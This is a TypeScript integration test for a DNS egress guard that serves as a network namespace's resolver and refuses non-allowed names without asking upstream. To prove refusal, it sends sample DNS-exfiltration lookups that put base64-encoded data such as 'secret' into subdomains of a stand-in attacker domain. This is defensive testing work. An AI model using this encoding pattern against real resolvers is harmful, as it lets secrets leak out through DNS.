/**
 * The DNS guard as a client namespace's only resolver: `ip netns exec` mounts
 * /etc/netns/<client>/resolv.conf over /etc/resolv.conf, which names the edge's DNS listener. Programs
 * that know nothing of egress-guard (glibc's getaddrinfo through `getent`, `dig` with no server given,
 * Node's `dns.lookup`) get answers for allowed names and nothing for the rest, and the edge's upstream
 * (a recording DNS server on the edge namespace's loopback) proves the refused names never left the edge.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createTopology,
  type NodeService,
  repoFileUrl,
  type Topology,
} from '../../../../test/support/netns.js';
import { useResolverIn } from './dns-kit.js';

const EDGE_SCRIPT = `
import { parsePolicy } from ${JSON.stringify(repoFileUrl('packages/policy/src/index.ts'))};
import { startEdge } from ${JSON.stringify(repoFileUrl('packages/edge/src/index.ts'))};
import { startDnsServer } from ${JSON.stringify(repoFileUrl('test/support/dns-server.ts'))};
import { serveRequests, signalReady } from ${JSON.stringify(repoFileUrl('test/support/netns.ts'))};
const [listen] = process.argv.slice(2);
const upstream = await startDnsServer({
  'api.allowed.test': [{ type: 'A', data: '93.184.216.34', ttl: 60 }],
  'leak.attacker.test': [{ type: 'A', data: '93.184.216.66', ttl: 60 }],
  '*.attacker.test': [{ type: 'A', data: '93.184.216.66', ttl: 60 }],
});
const policy = parsePolicy('version: 1\\nallow:\\n  - name: api\\n    hosts: [api.allowed.test]\\n');
const edge = await startEdge({
  policy,
  listeners: [{ kind: 'explicit', host: '127.0.0.1', port: 0 }],
  dns: { listen: [listen], servers: ['127.0.0.1:' + upstream.port], timeout: 2000 },
  watch: false,
  defaultMetrics: false,
});
signalReady({ dns: edge.dnsListeners });
serveRequests(
  (m) => (m.op === 'queries' ? upstream.queries : null),
  async () => { await edge.close(); await upstream.close(); },
);
`;

let topology: Topology;
let edge: NodeService<{ dns: Array<{ host: string; port: number }> }>;
let restoreResolver: (() => void) | undefined;

beforeAll(async () => {
  topology = await createTopology();
  edge = await topology.startNodeIn(topology.edge, topology.writeScript('dns-edge.mts', EDGE_SCRIPT), [
    `${topology.edge.address}:53`,
  ]);
  restoreResolver = useResolverIn(topology.client.name, topology.edge.address);
});

afterAll(async () => {
  restoreResolver?.();
  await topology?.destroy();
});

const dnsEvents = () =>
  edge
    .stdout()
    .split('\n')
    .filter((l) => l.includes('"egress.dns"'))
    .map((l) => JSON.parse(l) as Record<string, unknown>);

describe('the DNS guard as the resolver of a network namespace', () => {
  it('answers getaddrinfo, dig and Node for allowed names, and refuses the rest without asking upstream', async () => {
    expect(edge.ready.dns).toEqual([{ host: topology.edge.address, port: 53 }]);

    const getent = await topology.exec(topology.client, 'getent', ['ahostsv4', 'api.allowed.test']);
    expect(getent.stdout).toContain('93.184.216.34');
    const refused = await topology.exec(topology.client, 'getent', [
      'ahostsv4',
      'bWFkZS11cA.leak.attacker.test',
    ]);
    expect(refused.code).not.toBe(0);
    expect(refused.stdout).not.toContain('93.184.216.66');

    const dig = await topology.exec(topology.client, 'dig', [
      '+tries=1',
      '+time=2',
      'leak.attacker.test',
      'A',
    ]);
    expect(dig.stdout).toContain('status: REFUSED');
    expect(dig.stdout).toContain(`SERVER: ${topology.edge.address}#53`);

    const node = await topology.runNodeIn(
      topology.client,
      topology.writeScript(
        'lookup.mts',
        `import dns from 'node:dns/promises';
const ok = await dns.lookup('api.allowed.test', { family: 4 });
const bad = await dns.lookup('c2VjcmV0.attacker.test', { family: 4 }).then((r) => r.address, (e) => e.code);
console.log(JSON.stringify({ ok: ok.address, bad }));`,
      ),
    );
    // glibc reads REFUSED as "try again" (EAI_AGAIN); --dns-refusal nxdomain makes it ENOTFOUND.
    expect(JSON.parse(node.stdout.trim())).toEqual({ ok: '93.184.216.34', bad: 'EAI_AGAIN' });

    const seen = (await edge.request<Array<{ name: string }>>({ op: 'queries' })).map((q) => q.name);
    expect(seen.length).toBeGreaterThan(0);
    expect(seen.every((n) => n.toLowerCase() === 'api.allowed.test')).toBe(true);
    const events = dnsEvents();
    expect(
      events.some(
        (e) => e['dns.question.name'] === 'c2vjcmv0.attacker.test' && e['egress.decision'] === 'denied',
      ),
    ).toBe(true);
    expect(events.every((e) => e['client.address'] === topology.client.address)).toBe(true);
  });
});
